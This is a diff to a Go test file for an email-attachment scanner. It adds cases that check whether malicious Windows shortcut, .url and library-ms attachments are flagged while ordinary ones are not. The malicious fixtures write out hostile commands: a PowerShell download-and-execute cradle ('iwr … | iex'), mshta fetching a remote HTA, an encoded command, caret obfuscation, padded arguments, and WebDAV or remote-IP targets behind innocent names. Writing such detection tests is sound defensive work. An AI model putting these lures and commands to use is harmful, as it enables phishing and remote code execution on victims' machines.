@@ -39,6 +39,9 @@ func fakeLNK() []byte {
 	return append([]byte{0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 60)...)
 }
 
+// lnk is a shortcut as the corpus writes one.
+func lnk(s formats.Shortcut) []byte { return formats.LNK(s) }
+
 func fakeISO() []byte {
 	b := make([]byte, 0x8010)
 	copy(b[0x8001:], "CD001")
@@ -274,6 +277,40 @@ func TestChecks(t *testing.T) {
 			{"theme", attach(text("2", "[Theme]\r\n", named("corp.theme"))), "2"},
 			{"theme pack", attach(part("2", []byte("MSCF\x00\x00\x00\x00"), named("corp.deskthemepack"))), "2"},
 			{"md", attach(text("2", "# hi", named("readme.md"))), ""},
+		},
+		"shortcut-command": {
+			{"powershell download, innocent name", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, IDList: true, Arguments: `-w hidden -c "iwr https://cdn.example.net/a.ps1 | iex"`}), named("Invoice"))), "2"},
+			{"cmd only in the environment block", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%windir%\system32\cmd.exe`, Arguments: `/c start /min mshta https://cdn.example.net/x.hta`}), named("Scan.pdf.lnk"))), "2"},
+			{"%COMSPEC%", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%COMSPEC%`, Arguments: `/c copy x.dat %TEMP%\\r.exe`}), named("a.lnk"))), "2"},
+			{"encoded command", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, LinkInfo: true, Arguments: `-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`}), named("a.lnk"))), "2"},
+			{"mshta alone", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\mshta.exe`, LinkInfo: true, Arguments: `x.hta`}), named("a.lnk"))), "2"},
+			{"rundll32 with a DLL beside it, in a zip", zipWith(part("2/a.zip/Document.lnk", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `data\x.dll,DllRegisterServer`}), named("Document.lnk"))), "2/a.zip/Document.lnk"},
+			{"cmd with a batch file beside it", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/q /c files\run.bat`}), named("a.lnk"))), "2"},
+			{"arguments padded out of sight", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Example\app.exe`, LinkInfo: true, Arguments: strings.Repeat(" ", 260) + `--load x`}), named("a.lnk"))), "2"},
+			{"arguments after line breaks", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\notepad.exe`, LinkInfo: true, Arguments: "\n\n\nreadme"}), named("a.lnk"))), "2"},
+			{"target on a WebDAV share", attach(part("2", lnk(formats.Shortcut{Target: `\\files.example.net@SSL\DavWWWRoot\Invoice.exe`, LinkInfo: true}), named("a.lnk"))), "2"},
+			{"target in %TEMP%", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%TEMP%\svc.exe`}), named("a.lnk"))), "2"},
+			{"cmd under a PDF icon", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, IconLocation: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, IconIndex: 11}), named("a.lnk"))), "2"},
+			{"icon on an Internet share", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\notepad.exe`, LinkInfo: true, IconLocation: `\\203.0.113.7\s\i.ico`}), named("a.lnk"))), "2"},
+			{"cmd with carets", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true, Arguments: `/c p^ow^er^she^ll -w 1 notepad`}), named("a.lnk"))), "2"},
+			{"explorer opening a WebDAV folder", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\explorer.exe`, LinkInfo: true, Arguments: `\\files.example.net@SSL\DavWWWRoot\docs`}), named("a.lnk"))), "2"},
+			{"lock workstation under shell32's icon (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `user32.dll,LockWorkStation`, IconLocation: `%SystemRoot%\System32\shell32.dll`, IconIndex: 47}), named("Lock.lnk"))), ""},
+			{"folder in Explorer (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\explorer.exe`, LinkInfo: true, Arguments: `/e,"D:\Projects\Harbour"`}), named("Projects.lnk"))), ""},
+			{"command prompt (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%windir%\system32\cmd.exe`, IconLocation: `%windir%\system32\cmd.exe`, WorkingDir: `%HOMEDRIVE%%HOMEPATH%`}), named("Command Prompt.lnk"))), ""},
+			{"share document (honest)", attach(part("2", lnk(formats.Shortcut{Target: `\\fileserver\share\Report.xlsx`, LinkInfo: true, Name: "Q3 report"}), named("Report.lnk"))), ""},
+			{"intranet app (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Example\Client\client.exe`, IDList: true, LinkInfo: true, Arguments: `--server https://erp.corp.example.com --profile sales`, WorkingDir: `C:\Program Files\Example\Client`}), named("ERP.lnk"))), ""},
+			{"developer prompt (honest)", attach(part("2", lnk(formats.Shortcut{EnvTarget: `%comspec%`, Arguments: `/k "C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\Tools\VsDevCmd.bat"`, WorkingDir: `%USERPROFILE%`}), named("Developer Command Prompt.lnk"))), ""},
+			{"control panel applet (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\rundll32.exe`, IDList: true, Arguments: `shell32.dll,Control_RunDLL desk.cpl`}), named("Display.lnk"))), ""},
+			{"uninstall (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Windows\System32\msiexec.exe`, LinkInfo: true, Arguments: `/x {6F320B93-EE3C-4826-85E0-ADF79F8D4C61}`}), named("Uninstall.lnk"))), ""},
+			{"Office start-menu shortcut (honest)", attach(part("2", lnk(formats.Shortcut{Target: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, IDList: true, LinkInfo: true, Arguments: `/safe`}), named("Excel (safe mode).lnk"))), ""},
+			{"text named .lnk", attach(text("2", "cmd /c calc", named("a.lnk"))), ""},
+			{"url to a WebDAV share", attach(text("2", "[InternetShortcut]\r\nURL=file://files.example.net@SSL/DavWWWRoot/Invoice.pdf.exe\r\n", named("Invoice.url"))), "2"},
+			{"url search-ms of a share", attach(text("2", "[InternetShortcut]\r\nURL=search-ms:query=a&crumb=location:\\\\203.0.113.7\\s&\r\n", named("Docs.url"))), "2"},
+			{"library on a WebDAV share", attach(text("2", `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\files.example.net@SSL\DavWWWRoot\d</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, named("Documents.library-ms"))), "2"},
+			{"search connector to a web folder", attach(text("2", `<searchConnectorDescription><simpleLocation><url>https://files.example.net/dav/</url></simpleLocation></searchConnectorDescription>`, named("Docs.searchConnector-ms"))), "2"},
+			{"url to a web page (honest)", attach(text("2", "[InternetShortcut]\r\nURL=https://portal.example.com/login\r\n", named("Portal.url"))), ""},
+			{"url to the file server (honest)", attach(text("2", "[InternetShortcut]\r\nURL=file://fileserver/finance/q3.xlsx\r\n", named("Q3.url"))), ""},
+			{"library of the file server (honest)", attach(text("2", `<libraryDescription><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\fs01.corp.local\projects</url></simpleLocation></searchConnectorDescription><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, named("Projects.library-ms"))), ""},
 		},
 		"risky-container": {
 			{"iso by name", attach(part("2", zipBytes, named("disk.iso"))), "2"},
